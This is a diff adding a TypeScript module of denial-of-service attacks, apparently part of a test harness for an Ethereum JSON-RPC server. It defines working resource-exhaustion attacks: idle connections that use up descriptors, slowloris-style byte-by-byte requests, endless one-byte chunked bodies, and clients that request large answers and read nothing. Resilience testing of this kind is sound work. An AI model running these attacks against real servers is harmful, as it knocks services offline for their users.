@@ -1,0 +1,88 @@
+import { setTimeout as delay } from "node:timers/promises";
+import type { Attack } from "./attack.ts";
+import { asMany, attackingSocket, callOf, closed, requestOf } from "./attacker.ts";
+
+/** Time after which an attacker lets go of a connection that nobody closed. */
+const holdMs = 120_000;
+
+/** Connections that say nothing, more than the process has descriptors for. */
+export const idleConnections: Attack = {
+  name: "idle connections",
+  what: "1,500 connections from 6 addresses that send nothing, opened anew when they are closed",
+  run: async (target, signal) => {
+    const hold = async (connection: number) => {
+      // Not all at once: the queue of the kernel's own would refuse them.
+      await delay((connection % 100) * 10, undefined, { signal });
+      const socket = await attackingSocket(target, connection % 6, signal);
+      socket.resume();
+      await closed(socket, holdMs);
+      socket.destroy();
+    };
+    await asMany(1_500, signal, hold, 1_000);
+  },
+};
+
+/** Requests that never become whole. */
+export const slowHeads: Attack = {
+  name: "slow requests",
+  what: "300 connections from 6 addresses that send a head, or a body, byte by byte",
+  run: async (target, signal) => {
+    const request = requestOf(callOf(1, "eth_chainId", "[]"), `X-Long: ${"x".repeat(200)}`);
+    const trickle = async (connection: number) => {
+      const socket = await attackingSocket(target, connection % 6, signal);
+      socket.resume();
+      // Half of them stop in the head, half in the body.
+      const quick = connection % 2 === 0 ? 20 : request.length - 40;
+      socket.write(request.slice(0, quick));
+      for (let at = quick; at < request.length - 1 && !socket.destroyed; at += 1) {
+        await delay(1_000, undefined, { signal });
+        socket.write(request[at] ?? "");
+      }
+      await closed(socket, holdMs);
+      socket.destroy();
+    };
+    await asMany(300, signal, trickle, 200);
+  },
+};
+
+/** A body of one-byte chunks that goes on and on. */
+export const oneByteChunks: Attack = {
+  name: "one-byte chunks",
+  what: "8 connections from 2 addresses with bodies in chunks of one byte, as fast as they are taken",
+  run: async (target, signal) => {
+    const chunks = "1\r\n \r\n".repeat(20_000);
+    const head = ["POST / HTTP/1.1", "Host: a", "Content-Type: application/json", "Transfer-Encoding: chunked"];
+    const send = async (connection: number) => {
+      const socket = await attackingSocket(target, connection % 2, signal);
+      socket.resume();
+      socket.write(`${head.join("\r\n")}\r\n\r\n`);
+      while (!socket.destroyed && !signal.aborted) {
+        if (!socket.write(chunks)) {
+          await Promise.race([new Promise((resolve) => socket.once("drain", resolve)), closed(socket, 5_000)]);
+        }
+        await delay(20, undefined, { signal });
+      }
+    };
+    await asMany(8, signal, send, 50);
+  },
+};
+
+/** Clients that ask for much and take nothing of it. */
+export const deafReaders: Attack = {
+  name: "deaf readers",
+  what: "100 connections from 2 addresses that ask for 2 MB answers, several at a time, and read nothing",
+  run: async (target, signal) => {
+    let sent = 0;
+    const ask = async (connection: number) => {
+      const socket = await attackingSocket(target, connection % 2, signal);
+      socket.pause();
+      for (let call = 0; call < 4; call += 1) {
+        sent += 1;
+        socket.write(requestOf(callOf(sent, "eth_getBlockReceipts", `["0x${sent.toString(16)}"]`)));
+      }
+      await closed(socket, 30_000);
+      socket.destroy();
+    };
+    await asMany(100, signal, ask, 200);
+  },
+};
